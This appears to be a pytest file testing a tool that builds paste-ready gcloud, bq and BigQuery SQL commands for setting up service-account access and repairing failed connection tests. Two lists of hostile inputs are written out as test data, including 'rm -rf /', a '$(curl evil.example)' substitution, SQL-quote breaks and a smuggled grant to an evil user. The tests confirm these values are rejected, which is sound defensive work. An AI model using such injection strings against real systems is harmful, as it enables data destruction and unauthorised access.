"""Commands to paste: filled in with what is real, and with nothing that could be a trap."""

import shlex

import pytest

from connections import cures
from connections.bigquery.catalogue import CATALOGUE
from connections.bigquery.diagnosis import Asked, judge
from connections.bigquery.symptoms import Source, Symptom
from connections.guide import guide
from connections.models import Access, ConnectionTest, StoredKey
from connections.remedies import filled_in, remedy

EMAIL = "importer@shop-4711.iam.gserviceaccount.com"
HOSTILE = [
    "shop; rm -rf /",
    "$(curl evil.example)",
    "a`b",
    "x\ny",
    "shop-4711' OR '1'='1",
    'shop-4711" --impersonate-service-account=x',
    "shop-4711 --quiet",
    "-shop-4711",
    "shop\u202e4711",
    "sh\u03bfp-4711",
    "shop-4711\x00",
    "shop-4711\\",
    "https://evil.example/",
    "x" * 5000,
]


def tracks(**values):
    return {track.value: track for track in guide(**values).tracks}


def commands(track="new", **values):
    steps = tracks(**values)[track].steps
    return "\n".join(command.code for step in steps for command in step.commands)


def titles(track):
    return [step.title for step in tracks()[track].steps]


def test_fills_in_project_dataset_and_the_real_account():
    text = commands(project_id="shop-4711", dataset_id="shop", email=EMAIL)
    assert f"--member=serviceAccount:{EMAIL}" in text
    assert "CREATE SCHEMA IF NOT EXISTS `shop-4711`.`shop`" in text
    assert 'GRANT `roles/bigquery.dataEditor`\nON SCHEMA `shop-4711`.`shop`\nTO "service' in text


def test_a_new_set_up_makes_the_dataset_before_it_gives_a_role_on_it():
    assert titles("new") == [
        "Create a service account",
        "Create a dataset",
        "Assign the roles",
        "Create a JSON key",
        "Faster reads of large tables",
    ]


def test_existing_resources_are_found_from_the_outside_in():
    text = commands("existing", project_id="shop-4711", dataset_id="shop", email=EMAIL)
    places = [
        text.index(part)
        for part in (
            "gcloud projects list",
            "gcloud iam service-accounts list \\\n  --project=shop-4711",
            f'--filter="bindings.members:serviceAccount:{EMAIL}"',
            "FROM `shop-4711`.INFORMATION_SCHEMA.SCHEMATA;",
            "bq show --format=prettyjson \\\n  shop-4711:shop",
            f"keys list \\\n  --iam-account={EMAIL}",
        )
    ]
    assert places == sorted(places)


@pytest.mark.parametrize("track", ["new", "existing"])
def test_read_only_asks_for_the_smaller_role(track):
    text = commands(track, access="read_only")
    assert "roles/bigquery.dataViewer" in text
    assert "dataEditor" not in text


@pytest.mark.parametrize("access", ["", "read_write", "owner; rm -rf /"])
def test_anything_but_read_only_asks_for_what_clevertap_asks_for(access):
    text = commands(access=access)
    assert "roles/bigquery.dataEditor" in text
    assert "dataViewer" not in text


def test_shows_placeholders_for_what_is_not_typed_yet():
    assert guide().placeholders == ("PROJECT_ID", "DATASET_ID")
    assert guide(project_id="shop-4711").placeholders == ("DATASET_ID",)
    assert guide(project_id="shop-4711", dataset_id="shop").placeholders == ()
    assert "clevertap-import@PROJECT_ID.iam.gserviceaccount.com" in commands()


@pytest.mark.parametrize("track", ["new", "existing"])
@pytest.mark.parametrize("typed", HOSTILE)
def test_never_fills_in_what_is_no_identifier(typed, track):
    filled = {"project_id": typed, "dataset_id": typed, "email": typed, "key_id": typed}
    assert tracks(**filled, access=typed, chosen=typed)[track] == tracks()[track]


def test_an_account_of_a_project_below_a_domain_has_its_host_turned_round():
    text = commands(project_id="example.com:shop-4711")
    assert "clevertap-import@shop-4711.example.com.iam.gserviceaccount.com" in text


@pytest.mark.parametrize("track", ["new", "existing"])
def test_every_command_is_one_that_a_shell_can_read(track):
    steps = tracks(project_id="shop-4711", dataset_id="shop", email=EMAIL)[track].steps
    found = [command for step in steps for command in step.commands]
    for command in found:
        if not command.label.endswith("SQL"):
            words = shlex.split(command.code)
            assert words[0] in {"gcloud", "bq"}
            assert not [word for word in words if word.endswith("\\")]


def test_sql_for_the_terminal_stays_one_argument():
    words = shlex.split(commands(project_id="shop-4711", dataset_id="shop", email=EMAIL))
    sql = next(word for word in words if word.startswith("GRANT "))
    assert "`shop-4711`.`shop`" in sql
    assert sql.endswith(f'TO "serviceAccount:{EMAIL}";')


def test_a_key_that_was_read_makes_two_steps_done():
    steps = tracks(email=EMAIL, key_id="0123abcd")["new"].steps
    assert [bool(step.done) for step in steps] == [True, False, False, True, False]
    assert "service-accounts create" not in commands(email=EMAIL)


def test_says_whom_to_ask_where_keys_are_forbidden():
    notes = [step.note for track in guide().tracks for step in track.steps]
    assert sum("iam.disableServiceAccountKeyCreation" in note for note in notes) == 2


@pytest.mark.parametrize("track", ["new", "existing"])
def test_the_role_for_fast_reads_is_optional_and_the_only_one(track):
    optional = [step for step in tracks()[track].steps if step.is_optional]
    assert ["readSessionUser" in step.commands[0].code for step in optional] == [True]


@pytest.mark.parametrize(
    ("chosen", "expected"), [("existing", "existing"), ("", "new"), ("x", "new")]
)
def test_exactly_one_track_is_chosen(chosen, expected):
    assert [t.value for t in guide(chosen=chosen).tracks if t.is_chosen] == [expected]


def test_the_console_opens_at_the_project_only_when_it_is_one():
    def links(**typed):
        return [step.link.url for step in tracks(**typed)["new"].steps if step.link]

    assert not [url for url in links(project_id="shop&x=1") if "?" in url]
    assert all(url.endswith("?project=shop-4711") for url in links(project_id="shop-4711"))


def test_a_cure_without_anything_to_say_is_empty():
    assert cures.Cure().to_json() == {}


def test_a_grant_on_the_project_is_offered_as_sql_too():
    cure = cures.grant_on_project(role=cures.JOB_USER, project="shop-4711", email=EMAIL).to_json()
    gcloud, sql = (command["code"] for command in cure["commands"])
    assert "--condition=None" in gcloud
    assert sql.startswith("GRANT `roles/bigquery.jobUser`\nON PROJECT `shop-4711`\nTO ")


def test_a_grant_on_the_dataset_names_the_smallest_place():
    cure = cures.grant_on_dataset(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", email=EMAIL
    ).to_json()
    assert cure["resource"] == "dataset shop-4711.shop"
    assert "ON SCHEMA `shop-4711`.`shop`" in cure["commands"][1]["code"]


def test_a_grant_on_the_dataset_needs_no_feature_that_google_gives_to_few():
    """“bq add-iam-policy-binding” on a dataset is refused: “requires allowlisting”."""
    cure = cures.grant_on_dataset(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", email=EMAIL
    )
    assert "add-iam-policy-binding" not in cure.gcloud
    assert words_of(cure.gcloud)[-1] == cure.sql


def test_a_grant_on_a_table_offers_the_table_first_and_then_the_dataset():
    cure = cures.grant_on_table(
        role=cures.DATA_VIEWER, project="shop-4711", dataset="shop", table="a b", email=EMAIL
    ).to_json()
    codes = [command["code"] for command in cure["commands"]]
    assert cure["resource"] == "table shop-4711.shop.a b"
    assert words_of(codes[0])[-1] == "shop-4711:shop.a b"
    assert "ON TABLE `shop-4711`.`shop`.`a b`" in codes[1]
    assert ["ON SCHEMA" in code for code in codes] == [False, False, True, True]


HOSTILE = [
    "shop; rm -rf /",
    "$(curl evil.example)",
    "`id`",
    "a' || 'b",
    'x" TO "user:evil@evil.example',
    "shop\nDROP",
    " evil-4711",
    "--project=evil",
    "{home}",
    "",
]


def words_of(command):
    """As a shell takes it: a backslash at the end of a line joins the lines."""
    return shlex.split(command.replace("\\\n", " "))


def failed_test(**values):
    """A test whose names did not go through our own forms."""
    key = StoredKey(
        client_email=values.get("email", EMAIL),
        private_key_id=values.get("key_id", "0123456789abcdef0123456789abcdef01234567"),
        project_id=values.get("home", "shop-4711"),
    )
    return ConnectionTest(
        project_id=values.get("project", "shop-4711"),
        dataset_id=values.get("dataset", "shop"),
        access=Access.READ_ONLY,
        key=key,
    )


def failure(permission, table=None):
    text = f"Access Denied: Table p:d.t: Permission {permission} denied on table p:d.t."
    denied = Symptom(Source.API, frozenset({"accessDenied"}), 403, text)
    return judge(denied, Asked("shop-4711", "table shop-4711.shop.t", table))


def codes_of(cure):
    every = [*cure["commands"]] if "commands" in cure else []
    every += [command for cause in cure.get("causes", []) for command in cause["commands"]]
    return [command["code"] for command in every]


@pytest.mark.parametrize("name", ["project", "dataset", "email", "key_id", "home"])
@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("permission", ["bigquery.jobs.create", "bigquery.tables.getData"])
def test_no_command_holds_a_name_that_breaks_its_rules(name, value, permission):
    cure = remedy(failure(permission), failed_test(**{name: value})).to_json()
    assert value == "" or not any(value in code for code in codes_of(cure))
    assert not any("{" in code for code in codes_of(cure))


@pytest.mark.parametrize("table", [one for one in HOSTILE if one])
def test_a_table_of_a_hostile_name_is_not_put_into_a_command(table):
    cure = remedy(failure("bigquery.tables.getData", table), failed_test()).to_json()
    assert not any(table in code for code in codes_of(cure))
    assert "ON SCHEMA" in cure["commands"][1]["code"]


@pytest.mark.parametrize("entry", CATALOGUE, ids=lambda entry: entry.sentence[:60])
def test_every_cause_is_filled_in_with_the_real_names(entry):
    names = cures.Names("shop-4711", "shop", "", EMAIL, "0123456789abcdef0123", "home-4711")
    for cause, filled in zip(entry.causes, filled_in(entry.causes, names), strict=True):
        assert "{" not in " ".join((filled["title"], filled["tell"], filled["then"]))
        assert len(filled["commands"]) == len(cause.commands)


def test_a_signature_that_is_refused_is_told_by_the_id_of_the_key():
    invalid = Symptom(Source.TOKEN, frozenset({"invalid_grant"}), 400, "Invalid JWT Signature.")
    causes = remedy(judge(invalid, Asked("p", "the access token")), failed_test()).causes
    assert f"--iam-account={EMAIL}" in causes[0]["commands"][0]["code"]
    assert "no KEY_ID 0123456789abcdef0123456789abcdef01234567" in causes[0]["tell"]


def test_a_failure_of_one_cause_has_no_list_of_causes():
    gone = Symptom(Source.API, frozenset({"bytesBilledLimitExceeded"}), 400, "")
    assert remedy(judge(gone, Asked("p", "a query")), failed_test()).to_json() == {}
